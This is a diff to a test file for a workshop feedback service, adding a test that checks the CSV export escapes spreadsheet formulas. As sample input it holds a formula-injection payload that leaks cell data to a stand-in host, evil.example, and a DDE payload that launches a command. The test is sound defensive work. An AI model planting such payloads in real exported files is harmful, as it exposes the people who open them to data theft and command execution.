@@ -2,6 +2,8 @@
 feedback service; responses are validated, replaced, summarised and erased."""
 
 import asyncio
+import csv
+import io
 
 import httpx
 import pytest
@@ -236,3 +238,17 @@ async def test_erasure_deletes_free_text_and_keeps_anonymous_counts(api, organiz
     assert "(erased)" in rows
     summary = (await api.get(f"{F}/summary", headers=organizer)).json()
     assert summary["responses"] == 1 and summary["workshops"][0]["count"] == 1
+
+
+async def test_an_evaluation_exported_runs_no_formula_in_a_spreadsheet(api, organizer, day) -> None:
+    """Whatever a participant typed is shown by a spreadsheet, never run."""
+    comment = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")'
+    hostile = answer(day, comment=comment)
+    hostile["workshops"][0]["insight"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (await put(api, day, "Anna", hostile, organizer)).status_code == 200
+    exported = await api.get(f"{F}/responses.csv", headers=organizer)
+    [header, row] = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["comment"] == "'" + comment
+    assert cells["insight"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["day_rating"] == "4"  # numbers stay numbers
